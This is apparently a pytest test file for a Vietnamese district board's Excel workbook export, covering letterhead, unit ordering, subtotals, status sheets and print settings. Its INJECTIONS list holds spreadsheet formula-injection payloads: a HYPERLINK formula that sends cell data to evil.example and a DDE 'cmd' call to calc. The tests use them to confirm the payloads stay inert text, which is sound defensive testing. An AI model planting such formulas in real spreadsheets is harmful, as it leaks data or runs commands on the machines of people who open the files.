"""The consolidated workbook the board signs: letterhead, register order, subtotals, sheets."""

from __future__ import annotations

import io
import re
import zipfile
from collections import Counter
from datetime import UTC, datetime, timedelta, timezone

import openpyxl
import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from mailbot.campaign.export_model import ExportModel, FormStatus, UnitStatusRow
from mailbot.campaign.export_xlsx import write_consolidated_xlsx
from mailbot.config import BoardConfig
from rules.campaign import newest_campaign

FIELDS = ("economy", "culture_society", "security_defense", "political_system")
FIELD_HEADERS = [
    "Lĩnh vực kinh tế",
    "Lĩnh vực văn hóa - xã hội",
    "Lĩnh vực an ninh quốc phòng",
    "Lĩnh vực xây dựng hệ thống chính trị",
]
INJECTIONS = [
    '=HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    "+1",
    "-2",
    "@SUM(A1:A9)",
    "\t=1+1",
    "=cmd|' /C calc'!A0",
]
GENERATED = datetime(2022, 2, 22, 1, 0, tzinfo=UTC)  # 08:00 in Hanoi
M1_SHEET, M2_SHEET = "Mẫu số 01 - Cấp Quận", "Mẫu số 02 - Cấp cơ sở"
SUMMARY, STATUS, INTERNAL = "Tổng hợp chung", "Tình hình gửi biểu", "Nội bộ - có mã và địa chỉ"


def M(code, name, form, kind, field, who, model, note=None):  # noqa: N802 - a short test builder
    return ExportModel(code, name, form, kind, field, None, who, model, note)


def at(day, hour=9):
    return datetime(2022, 2, day, hour - 7, 0, tzinfo=UTC)


KT, HPN, DTN = "Đảng ủy phường Khương Trung", "Hội Liên hiệp Phụ nữ quận", "Quận đoàn Thanh Xuân"
MTTQ, CCB, CTD = "Ủy ban MTTQ quận", "Hội Cựu chiến binh quận", "Hội Chữ thập đỏ quận"
NCT = "Hội Người cao tuổi quận"
MODELS = [
    # given out of unit order on purpose: the workbook groups them by unit (register order)
    M("KT", KT, "M1", "collective", "culture_society", "Chi bộ TDP số 5", "- Tổ dân phố xanh"),
    M("HPN", HPN, "M1", "collective", "economy", "Chi hội Phụ nữ số 3", "Nuôi heo đất"),
    M("KT", KT, "M1", "individual", "economy", "Nguyễn Văn An", INJECTIONS[0], note="+1"),
    M("HPN", HPN, "M1", "collective", "political_system", "Chi hội Phụ nữ số 7", "-2"),
    M("KT", KT, "M1", "collective", "security_defense", "Chi bộ TDP số 9", "@SUM(A1:A9)"),
    M("HPN", HPN, "M1", "individual", "culture_society", "Trần Thị Bình", "Câu lạc bộ dưỡng sinh"),
    M("HPN", HPN, "M2", "collective", "economy", "Chi hội 1", "\t=1+1"),
    M("DTN", DTN, "M2", "individual", "political_system", "Lê Văn Cường", INJECTIONS[5], "@n"),
    M("KT", KT, "M2", "collective", "security_defense", "Tổ bảo vệ dân phố", "Camera an ninh"),
]


def ok(when, entries, late=False, sender="", empty=False):
    return FormStatus(when, late, entries, 0, [], sender, "ok", empty)


STATUSES = [
    UnitStatusRow(
        "HPN",
        HPN,
        "complete",
        {"M1": ok(at(14, 9), 4, sender="phunu@example.vn"), "M2": ok(datetime(2022, 2, 15), 1)},
        group="chinh-tri-xa-hoi",
        order=2,
    ),
    UnitStatusRow(
        "KT",
        KT,
        "complete",
        {
            "M1": ok(at(21, 9), 3, late=True, sender="kt@example.vn"),
            "M2": ok(datetime(2022, 2, 19, 23, 59, tzinfo=timezone(timedelta(hours=7))), 1),
        },
    ),
    # no group in the register: guessed from the name; its order puts it before HPN
    UnitStatusRow("DTN", DTN, "partial", {"M1": None, "M2": ok(at(10), 1)}, order=1),
    UnitStatusRow(
        "MTTQ",
        MTTQ,
        "complete",
        {"M1": ok(at(12), 0, empty=True), "M2": ok(at(12), 0, empty=True)},
        group="mat-tran",
    ),
    UnitStatusRow(
        "CCB",
        CCB,
        "awaiting-confirmation",
        {"M1": None, "M2": FormStatus(at(16), False, 1, 0, [], "ccb@gmail.example", "unconfirmed")},
        group="chinh-tri-xa-hoi",
        order=3,
    ),
    UnitStatusRow("CTD", CTD, "missing", {"M1": None, "M2": None}),
    UnitStatusRow(
        "NCT",
        NCT,
        "errors",
        {
            "M1": FormStatus(
                at(14),
                False,
                0,
                2,
                ["Dòng 5: thiếu tên mô hình", "=Tổng không khớp"],
                "=nct@example.vn",
                "errors",
            ),
            "M2": None,
        },
        owed=("M1",),
    ),
]
BOARD = BoardConfig(sign_name="Nguyễn Văn Ba", recipients_note=("Ban Dân vận Thành ủy;", "Lưu."))


@pytest.fixture(scope="module")
def campaign():
    return newest_campaign()


@pytest.fixture(scope="module")
def xlsx(campaign) -> bytes:
    return write_consolidated_xlsx(MODELS, STATUSES, campaign, GENERATED, board=BOARD)


@pytest.fixture(scope="module")
def wb(xlsx):
    return openpyxl.load_workbook(io.BytesIO(xlsx))


def _rows(ws) -> list[list]:
    return [list(r) for r in ws.iter_rows(values_only=True)]


def _texts(ws) -> list[str]:
    return [v for r in _rows(ws) for v in r if isinstance(v, str)]


def _level(ws) -> dict:
    """A level sheet read back: header row, groups, units with their models and subtotal, TỔNG."""
    rows = _rows(ws)
    head = next(i for i, r in enumerate(rows) if r[0] == "TT")
    groups: list[str] = []
    units: list[dict] = []
    for r in rows[head + 2 :]:
        if r[1] == "TỔNG":
            return {"head": head + 1, "rows": rows, "groups": groups, "units": units, "total": r}
        if r[0] and re.fullmatch(r"[IVXLC]+", r[0]):
            groups.append(r[1])
        elif r[0] and r[0].isdigit():
            assert r[2:] == [None] * 5, "a unit heading spans the row"
            units.append({"group": groups[-1], "name": r[1], "models": [], "kinds": []})
        elif r[0] is None and r[1] in ("Tập thể", "Cá nhân"):
            units[-1]["kinds"].append(r[1])
            kind = r[1]
        elif r[1] == "Cộng":
            units[-1]["subtotal"] = r
        else:
            assert re.fullmatch(rf"{len(units)}\.\d+", r[0]), r
            units[-1]["models"].append((kind, r))
    raise AssertionError("no TỔNG row")


def test_sheets(wb):
    assert wb.sheetnames == [M1_SHEET, M2_SHEET, SUMMARY, STATUS, INTERNAL]


def test_letterhead_date_line_and_title(wb):
    for name in (M1_SHEET, M2_SHEET, SUMMARY, STATUS):
        ws = wb[name]
        assert [ws["A1"].value, ws["A2"].value, ws["A3"].value] == [
            "QUẬN ỦY THANH XUÂN",
            "BAN DÂN VẬN",
            "*",
        ]
        assert not ws["A1"].font.b and ws["A2"].font.b
        right = [c for c in ws[1] if c.value == "ĐẢNG CỘNG SẢN VIỆT NAM"]
        assert right and right[0].font.b and right[0].font.u == "single"
        dated = [c for c in ws[3] if c.value and str(c.value).startswith("Thanh Xuân, ngày")]
        assert dated[0].value == "Thanh Xuân, ngày 22 tháng 02 năm 2022" and dated[0].font.i
        assert ws["A1"].font.name == "Times New Roman"
    texts = _texts(wb[M1_SHEET])
    assert "BIỂU TỔNG HỢP" in texts and "ĐĂNG KÝ MÔ HÌNH, ĐIỂN HÌNH CẤP QUẬN" in texts
    assert "(Số liệu tổng hợp đến 08 giờ 00 ngày 22/02/2022)" in texts
    assert not any(t.startswith("Số liệu đến") for t in texts)


def test_date_left_for_a_hand_written_date(campaign):
    board = BoardConfig(date_by_hand=True, place="Hà Nội")
    data = write_consolidated_xlsx(MODELS, STATUSES, campaign, GENERATED, board=board)
    texts = _texts(openpyxl.load_workbook(io.BytesIO(data))[M1_SHEET])
    assert "Hà Nội, ngày … tháng … năm 2022" in texts


@pytest.mark.parametrize(
    ("sheet", "form", "groups", "units"),
    [
        (
            M1_SHEET,
            "M1",
            ["CÁC TỔ CHỨC CHÍNH TRỊ - XÃ HỘI", "CÁC TỔ CHỨC CƠ SỞ ĐẢNG"],
            [HPN, KT],
        ),
        (
            M2_SHEET,
            "M2",
            ["CÁC TỔ CHỨC CHÍNH TRỊ - XÃ HỘI", "CÁC TỔ CHỨC CƠ SỞ ĐẢNG"],
            [DTN, HPN, KT],  # DTN's order (1) before HPN's (2); KT after, by group
        ),
    ],
)
def test_level_sheet_groups_units_subtotals_and_total(wb, sheet, form, groups, units):
    ws = wb[sheet]
    part = _level(ws)
    rows, head = part["rows"], part["head"]
    top, second = rows[head - 1], rows[head]
    assert top[:3] == ["TT", "Tên tập thể, cá nhân", "Tên mô hình đăng ký “Dân vận khéo”"]
    assert top[-1] == "Ghi chú" and len(top) == 7  # the form's columns, no unit column
    assert second[2:6] == FIELD_HEADERS
    merged = {str(r) for r in ws.merged_cells.ranges}
    assert {f"A{head}:A{head + 1}", f"B{head}:B{head + 1}", f"C{head}:F{head}"} <= merged

    assert part["groups"] == groups
    assert [u["name"] for u in part["units"]] == units
    mine = [m for m in MODELS if m.form == form]
    subtotals = []
    for unit in part["units"]:
        theirs = [m for m in mine if m.unit_name == unit["name"]]
        # collectives first, then individuals; every model once, in its field column
        assert unit["kinds"] == [k for k in ("Tập thể", "Cá nhân") if k in _kinds(theirs)]
        got = set()
        for kind, r in unit["models"]:
            fields = [i for i in range(2, 6) if r[i] is not None]
            assert len(fields) == 1
            got.add((kind, r[1], FIELDS[fields[0] - 2], r[fields[0]], r[6]))
        assert got == {
            ("Tập thể" if m.kind == "collective" else "Cá nhân", m.name, m.field, m.model, m.note)
            for m in theirs
        }
        counts = Counter(m.field for m in theirs)
        assert unit["subtotal"][2:7] == [*(counts[f] for f in FIELDS), len(theirs)]
        subtotals.append(unit["subtotal"][2:7])
    total = part["total"][2:7]
    assert total == [sum(col) for col in zip(*subtotals, strict=True)]
    assert total[-1] == len(mine)
    total_row = next(i for i, r in enumerate(rows, start=1) if r[1] == "TỔNG")
    assert ws.cell(row=total_row, column=7).number_format == '0 "mô hình"'


def _kinds(models):
    return {"Tập thể" if m.kind == "collective" else "Cá nhân" for m in models}


def test_note_and_signature_block_from_the_configuration(wb):
    rows = _rows(wb[M1_SHEET])
    texts = _texts(wb[M1_SHEET])
    note = next(t for t in texts if t.startswith("Ghi chú:"))
    assert "6 mô hình" in note and "2 đơn vị" in note and "1 đơn vị không đăng ký" in note
    sign = next(i for i, r in enumerate(rows) if "T/M BAN DÂN VẬN" in r)
    col = rows[sign].index("T/M BAN DÂN VẬN")
    assert rows[sign + 1][col] == "TRƯỞNG BAN"
    assert "Nguyễn Văn Ba" in [r[col] for r in rows[sign + 2 :]]
    assert rows[sign][0] == "Nơi nhận:"
    assert [rows[sign + 1][0], rows[sign + 2][0]] == ["- Ban Dân vận Thành ủy;", "- Lưu."]
    ws = wb[M1_SHEET]
    assert ws.cell(row=sign + 1, column=1).font.b and ws.cell(row=sign + 1, column=1).font.i
    assert ws.cell(row=sign + 1, column=col + 1).font.b


def test_summary_sheet(wb):
    rows = _rows(wb[SUMMARY])
    head = next(i for i, r in enumerate(rows) if r[0] == "TT")
    assert rows[head][2] == "Mẫu số 01 (cấp Quận)" and rows[head][9] == "Mẫu số 02 (cấp cơ sở)"
    per_form = ["Kinh tế", "Văn hóa - xã hội", "An ninh quốc phòng"]
    assert rows[head + 1][2:5] == per_form
    assert rows[head + 1][6:9] == ["Tập thể", "Cá nhân", "Cộng"]
    body = {r[1]: r for r in rows[head + 2 :] if r[0] and r[0].isdigit()}
    assert list(body) == [DTN, HPN, KT]
    for name, row in body.items():
        for n, form in enumerate(("M1", "M2")):
            theirs = [m for m in MODELS if m.unit_name == name and m.form == form]
            fields = Counter(m.field for m in theirs)
            kinds = Counter(m.kind for m in theirs)
            expected = [*(fields[f] for f in FIELDS), kinds["collective"], kinds["individual"]]
            assert row[2 + 7 * n : 9 + 7 * n] == [*expected, len(theirs)], name
        assert row[16] == sum(1 for m in MODELS if m.unit_name == name)
    total = next(r for r in rows if r[1] == "TỔNG")
    assert total[16] == len(MODELS) and total[8] == 6 and total[15] == 3
    texts = _texts(wb[SUMMARY])
    assert f"{MTTQ}." in texts  # registered nothing
    assert f"{CTD}." in texts  # sent nothing at all
    assert f"- {DTN}: còn thiếu Mẫu số 01 (cấp Quận)." in texts
    left_out = [t for t in texts if t.startswith(("- Hội Cựu", "- Hội Người"))]
    assert any("Mẫu số 02" in t and "xác nhận người gửi" in t for t in left_out)
    assert any("Mẫu số 01" in t and "có lỗi" in t and "2 lỗi" in t for t in left_out)
    assert "Đơn vị chưa gửi biểu nào (1):" in texts


def test_printable_status_sheet_has_no_codes_or_addresses(wb):
    ws = wb[STATUS]
    rows = _rows(ws)
    head = next(i for i, r in enumerate(rows) if r[0] == "TT")
    assert rows[head][:3] == ["TT", "Đơn vị", "Tình trạng"]
    assert rows[head + 1][3:6] == ["Ngày gửi", "Số mô hình", "Ghi chú"]
    texts = _texts(ws)
    for s in STATUSES:
        assert s.unit_code not in texts
    assert not [t for t in texts if "@" in t]
    body = {r[1]: r for r in rows[head + 2 :] if r[0] and r[0].isdigit()}
    groups = [r[1] for r in rows[head + 2 :] if r[0] and re.fullmatch(r"[IVX]+", r[0])]
    assert groups[0] == "MẶT TRẬN TỔ QUỐC" and groups[-1] == "CÁC TỔ CHỨC CƠ SỞ ĐẢNG"
    assert list(body) == [MTTQ, DTN, HPN, CCB, CTD, NCT, KT]
    assert body[MTTQ][2] == "Đã gửi đủ"
    assert body[MTTQ][5] == "Không đăng ký mô hình"  # a note, not a problem
    assert body[KT][3:6] == ["09:00 21/02/2022", 3, "Gửi muộn"]
    assert body[KT][6] == "23:59 19/02/2022"  # an aware time in Asia/Ho_Chi_Minh
    assert body[HPN][6] == "07:00 15/02/2022"  # a naive time is UTC
    assert body[DTN][2] == "Gửi chưa đủ" and body[DTN][5] == "Còn thiếu"
    assert body[NCT][5] == "Đã nhận, có lỗi, chưa được tính (2 lỗi)"
    assert body[NCT][8] == "Không phải gửi"
    assert body[CCB][8] == "Chờ xác nhận người gửi"
    assert "Tổng số 7 đơn vị" in " ".join(texts)


def test_internal_sheet_keeps_codes_and_addresses(wb):
    rows = _rows(wb[INTERNAL])
    assert "NỘI BỘ" in rows[0][0]
    assert rows[3][:3] == ["Mã", "Đơn vị", "Tình trạng"]
    body = {r[0]: r for r in rows[5:] if r[0]}
    assert list(body) == ["MTTQ", "DTN", "HPN", "CCB", "CTD", "NCT", "KT"]
    assert body["KT"][3:8] == ["21/02/2022 09:00", "Gửi muộn", 3, None, "kt@example.vn"]
    assert body["NCT"][6] == "- Dòng 5: thiếu tên mô hình\n- =Tổng không khớp"
    assert body["MTTQ"][6] == "- Không đăng ký mô hình"


def test_formula_injection_stays_text(xlsx, wb):
    found = {}
    for ws in wb:
        for row in ws.iter_rows():
            for cell in row:
                value = cell.value
                if isinstance(value, str) and value.startswith(("=", "+", "-", "@", "\t")):
                    found[value] = cell
    for text in [*INJECTIONS, "- Tổ dân phố xanh", "@n", "=nct@example.vn"]:
        cell = found[text]
        assert cell.data_type == "s", text
        assert cell.quotePrefix, text
    with zipfile.ZipFile(io.BytesIO(xlsx)) as z:
        sheets = [n for n in z.namelist() if n.startswith("xl/worksheets/sheet")]
        assert len(sheets) == 5
        for name in sheets:
            xml = z.read(name).decode()
            assert "<f>" not in xml and "<f " not in xml
            assert "HYPERLINK" not in xml or 't="inlineStr"><is><t>=HYPERLINK' in xml
    assert found["+1"].coordinate.startswith("G")  # the note column


def test_print_settings(wb):
    for ws in wb:
        assert ws.page_setup.orientation == "landscape", ws.title
        assert int(ws.page_setup.paperSize) == 9, ws.title  # A4
        assert ws.sheet_properties.pageSetUpPr.fitToPage
        assert int(ws.page_setup.fitToWidth) == 1 and int(ws.page_setup.fitToHeight) == 0
        assert re.fullmatch(r"\$\d+:\$\d+", ws.print_title_rows or ""), ws.title
        assert ws.oddFooter.center.text == "Trang &P/&N"
        assert ws.freeze_panes is not None
        assert ws.print_area
    ws = wb[M1_SHEET]
    row = next(i for i, r in enumerate(_rows(ws), start=1) if r[1] == "Nguyễn Văn An")
    cell = ws.cell(row=row, column=3)
    assert cell.alignment.wrap_text and cell.font.name == "Times New Roman"
    assert all(s.style == "thin" for s in (cell.border.left, cell.border.bottom))
    assert ws.row_dimensions[row].height >= 15


def test_same_input_same_bytes(xlsx, campaign):
    again = write_consolidated_xlsx(MODELS, STATUSES, campaign, GENERATED, board=BOARD)
    assert again == xlsx
    props = openpyxl.load_workbook(io.BytesIO(xlsx)).properties
    assert props.created == props.modified == datetime(2022, 2, 22, 1, 0)


def test_empty_campaign_and_hostile_characters(campaign):
    data = write_consolidated_xlsx([], [], campaign, GENERATED)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for name in (M1_SHEET, M2_SHEET):
        part = _level(wb[name])
        assert part["units"] == [] and part["total"][2:7] == [0, 0, 0, 0, 0]
    nasty = M(
        "X\x00", "Đơn vị\x07 lạ", "M1", "collective", "economy", "Tên\x1b", "Mô\x0bhình " * 5000
    )
    data = write_consolidated_xlsx([nasty], [], campaign, GENERATED)
    part = _level(openpyxl.load_workbook(io.BytesIO(data))[M1_SHEET])
    assert part["groups"] == ["CÁC ĐƠN VỊ KHÁC"] and part["units"][0]["name"] == "Đơn vị lạ"
    _kind, row = part["units"][0]["models"][0]
    assert row[1] == "Tên" and row[2].startswith("Môhình") and len(row[2]) <= 32767


def test_invalid_records_are_refused():
    with pytest.raises(ValueError):
        M("A", "A", "M1", "group", "economy", "x", "y")
    with pytest.raises(ValueError):
        M("A", "A", "M1", "collective", "kinh tế", "x", "y")


TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=40)


@settings(max_examples=25, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(
    st.lists(
        st.tuples(
            st.sampled_from(["A", "B", "C"]),
            st.sampled_from(["M1", "M2"]),
            st.sampled_from(["collective", "individual"]),
            st.sampled_from(FIELDS),
            st.tuples(st.sampled_from(["", "=", "+", "-", "@", "\t"]), TEXT).map("".join),
        ),
        max_size=15,
    )
)
def test_counts_and_texts_survive_any_input(items):
    campaign = newest_campaign()
    models = [
        M(u, f"Đơn vị {u}", form, kind, field, f"Tên {i}", text)
        for i, (u, form, kind, field, text) in enumerate(items)
    ]
    data = write_consolidated_xlsx(models, [], campaign, GENERATED)
    wb = openpyxl.load_workbook(io.BytesIO(data))
    for form, sheet in (("M1", M1_SHEET), ("M2", M2_SHEET)):
        part = _level(wb[sheet])
        mine = [m for m in models if m.form == form]
        counts = Counter(m.field for m in mine)
        assert part["total"][2:7] == [*(counts[f] for f in FIELDS), len(mine)]
        got = sorted(
            (r[1], next((v for v in r[2:6] if v is not None), ""))
            for unit in part["units"]
            for _kind, r in unit["models"]
        )
        assert got == sorted((m.name, m.model) for m in mine)
